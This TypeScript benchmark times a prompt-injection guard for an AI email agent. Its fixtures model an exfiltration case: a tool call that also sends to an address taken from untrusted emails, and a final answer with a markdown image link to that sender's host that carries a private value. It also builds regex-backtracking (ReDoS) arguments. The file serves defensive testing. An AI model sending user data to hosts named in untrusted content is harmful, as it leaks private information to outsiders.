// Guard overhead per tool call: the action policy (argument origins against the run's context,
// declarative rules, defaults) on a tainted context of realistic size, reviewed and then gated,
// next to a baseline in the same run: the gate deciding the same call after an allow review. Measured in
// process, in blocks, after a warm-up; medians and p99 of the per-call time per block.
import { performance } from 'node:perf_hooks';
import { defineGuard } from '../src/index.js';
import { defineGates } from '../src/exports/approval.js';
import {
  guardAnswer,
  monitorCall,
  reviewCall,
  type CallReview,
  type ContextText,
  type ReviewedCall,
} from '../src/guard/index.js';
import { round } from './stats.js';

export const GUARD_OVERHEAD_TARGET_MS = 1;

export interface GuardOverheadResult {
  /** Characters of context the guard grounds arguments in. */
  readonly contextChars: number;
  readonly guardP50Ms: number;
  readonly guardP99Ms: number;
  /** Baseline: the gate after an allow review, same call. */
  readonly baselineP50Ms: number;
  readonly target: number;
  readonly within: boolean;
  /** The guard and the monitor on one call whose string arguments total 100 KB, shaped to backtrack. */
  readonly largeArgsChars: number;
  readonly largeArgsP50Ms: number;
  readonly largeArgsP99Ms: number;
  readonly largeArgsWithin: boolean;
  /**
   * The answer guard on one final answer (links, a private value, untrusted phrases), same
   * context, its pieces indexed once as a run carries them.
   */
  readonly answerGuardP50Ms: number;
  readonly answerGuardP99Ms: number;
  readonly answerGuardWithin: boolean;
  /** The same with every piece new, so the whole context is indexed for the one answer. */
  readonly answerGuardColdP50Ms: number;
  readonly answerGuardColdP99Ms: number;
  /** Baseline for the answer: a JSON copy of the same context, timed the same way. */
  readonly answerBaselineP50Ms: number;
  readonly answerBaselineP99Ms: number;
}

const BLOCKS = 60;
const CALLS_PER_BLOCK = 200;

function context(): ContextText[] {
  const trusted = { trust: 'trusted', source: 'task' } as const;
  const untrusted = { trust: 'untrusted', source: 'tool:search_emails' } as const;
  const pieces: ContextText[] = [
    { text: 'You are the workspace assistant of emma@acme.example.', provenance: trusted },
    { text: 'Summarise my inbox and email the summary to bob@acme.example.', provenance: trusted },
  ];
  for (let index = 0; index < 20; index += 1)
    pieces.push({
      text: JSON.stringify({
        id: `m${index}`,
        from: `sender${index}@example.org`,
        subject: `Message ${index}`,
        body: 'Lorem ipsum dolor sit amet, '.repeat(20),
      }),
      provenance: untrusted,
    });
  return pieces;
}

function measure(
  review: (call: ReviewedCall) => CallReview,
  call: ReviewedCall,
  { blocks = BLOCKS, callsPerBlock = CALLS_PER_BLOCK, warmUp = 2_000 } = {},
): { p50: number; p99: number } {
  const gates = defineGates({ effects: [] });
  for (let index = 0; index < warmUp; index += 1) gates.decide(call, review(call));
  const perCall: number[] = [];
  for (let block = 0; block < blocks; block += 1) {
    // A fresh context array per block: the guard's per-step cache is rebuilt, as in a run.
    const fresh = { ...call, context: [...(call.context ?? [])] };
    const start = performance.now();
    for (let index = 0; index < callsPerBlock; index += 1) gates.decide(fresh, review(fresh));
    perCall.push((performance.now() - start) / callsPerBlock);
  }
  perCall.sort((a, b) => a - b);
  return {
    p50: perCall[Math.floor(perCall.length / 2)] ?? 0,
    p99: perCall[Math.min(perCall.length - 1, Math.ceil(perCall.length * 0.99) - 1)] ?? 0,
  };
}

export function measureGuardOverhead(): GuardOverheadResult {
  const guard = defineGuard({
    tools: { send_email: { sinks: ['to', 'attachments'], allow: { to: ['carol@acme.example'] } } },
  });
  const pieces = context();
  const call: ReviewedCall = {
    runId: 'bench',
    agent: 'bench',
    step: 3,
    index: 0,
    toolName: 'send_email',
    effect: 'egress',
    input: { to: ['bob@acme.example', 'sender7@example.org'], subject: 'Summary', body: 'x' },
    tainted: true,
    context: pieces,
  };
  const guarded = measure((reviewed) => reviewCall(reviewed, { guard, signalled: false }), call);
  const baseline = measure(() => ({ verdict: 'allow', records: [] }), call);
  // 100 KB of arguments built to make a backtracking pattern go quadratic: a run of dots
  // between two @, a hex run broken at its end, blob-like runs one short of the threshold.
  const large: ReviewedCall = {
    ...call,
    input: {
      to: `a@${'.'.repeat(25_000)}@`,
      subject: `${'a'.repeat(25_000)}g`,
      body: `${'z'.repeat(63)} `.repeat(390),
      attachments: [`https://example.org/${'b'.repeat(25_000)} x`],
    },
  };
  const largeArgsChars = JSON.stringify(large.input).length;
  const scope = ['send_email'];
  const largeArgs = measure(
    (reviewed) => {
      monitorCall({
        toolName: reviewed.toolName,
        effect: reviewed.effect,
        input: reviewed.input,
        context: reviewed.context ?? [],
        scope,
      });
      return reviewCall(reviewed, { guard, signalled: false });
    },
    large,
    { blocks: 40, callsPerBlock: 10, warmUp: 200 },
  );
  // The answer guard on a final answer of realistic shape: a trusted link, an image whose host
  // only untrusted content names carrying a private value, phrases lifted from the emails.
  const answer =
    'Summary: eight messages ask for a meeting, see [the agenda](https://docs.acme.example/agenda). ' +
    'Lorem ipsum dolor sit amet, lorem ipsum dolor sit amet. ' +
    '![status](https://sender7.example.org/p.png?c=482913) Reply to sender7@example.org.';
  const answerContext = [
    ...pieces,
    {
      text: 'Docs: https://docs.acme.example/agenda',
      provenance: { trust: 'trusted', source: 'task' } as const,
    },
  ];
  const timeAnswer = (work: () => unknown) => {
    for (let index = 0; index < 500; index += 1) work();
    const perAnswer: number[] = [];
    for (let block = 0; block < BLOCKS; block += 1) {
      const start = performance.now();
      for (let index = 0; index < 50; index += 1) work();
      perAnswer.push((performance.now() - start) / 50);
    }
    perAnswer.sort((a, b) => a - b);
    return {
      p50: perAnswer[Math.floor(perAnswer.length / 2)] ?? 0,
      p99: perAnswer[Math.min(perAnswer.length - 1, Math.ceil(perAnswer.length * 0.99) - 1)] ?? 0,
    };
  };
  const check = (context: ContextText[]) =>
    guardAnswer(answer, {
      context,
      tainted: true,
      handling: 'neutralise',
      privateValues: ['482913'],
    });
  // As in a run: a fresh context array per step, holding the pieces the run carries from step
  // to step, each indexed once when it entered.
  const answered = timeAnswer(() => check([...answerContext]));
  // Cold: fresh pieces each time, so the whole context is indexed for this one answer (what
  // the first answer after a 12.8 KB tool result pays once).
  const answeredCold = timeAnswer(() => check(answerContext.map((piece) => ({ ...piece }))));
  const answerBaseline = timeAnswer(() => JSON.parse(JSON.stringify(answerContext)) as unknown);
  return {
    answerGuardP50Ms: round(answered.p50, 5),
    answerGuardP99Ms: round(answered.p99, 5),
    answerGuardWithin: answered.p99 < GUARD_OVERHEAD_TARGET_MS,
    answerGuardColdP50Ms: round(answeredCold.p50, 5),
    answerGuardColdP99Ms: round(answeredCold.p99, 5),
    answerBaselineP50Ms: round(answerBaseline.p50, 5),
    answerBaselineP99Ms: round(answerBaseline.p99, 5),
    contextChars: pieces.reduce((total, piece) => total + piece.text.length, 0),
    guardP50Ms: round(guarded.p50, 5),
    guardP99Ms: round(guarded.p99, 5),
    baselineP50Ms: round(baseline.p50, 5),
    target: GUARD_OVERHEAD_TARGET_MS,
    within: guarded.p99 < GUARD_OVERHEAD_TARGET_MS,
    largeArgsChars,
    largeArgsP50Ms: round(largeArgs.p50, 5),
    largeArgsP99Ms: round(largeArgs.p99, 5),
    largeArgsWithin: largeArgs.p99 < GUARD_OVERHEAD_TARGET_MS,
  };
}

export function renderGuardOverhead(result: GuardOverheadResult): string {
  return [
    `guard per tool call (${result.contextChars} chars of tainted context): p50 ${result.guardP50Ms} ms, p99 ${result.guardP99Ms} ms (target p99 < ${result.target} ms: ${result.within ? 'met' : 'MISSED'})`,
    `  baseline, the gate after an allow review: p50 ${result.baselineP50Ms} ms`,
    `answer guard per final answer (same context, pieces indexed as a run carries them): p50 ${result.answerGuardP50Ms} ms, p99 ${result.answerGuardP99Ms} ms (target p99 < ${result.target} ms: ${result.answerGuardWithin ? 'met' : 'MISSED'})`,
    `  the whole context indexed for the one answer (once per piece in a run): p50 ${result.answerGuardColdP50Ms} ms, p99 ${result.answerGuardColdP99Ms} ms`,
    `  baseline, a JSON copy of the context: p50 ${result.answerBaselineP50Ms} ms, p99 ${result.answerBaselineP99Ms} ms`,
    `  with ${result.largeArgsChars} chars of adversarial arguments (guard and monitor): p50 ${result.largeArgsP50Ms} ms, p99 ${result.largeArgsP99Ms} ms (target p99 < ${result.target} ms: ${result.largeArgsWithin ? 'met' : 'MISSED'})`,
  ].join('\n');
}
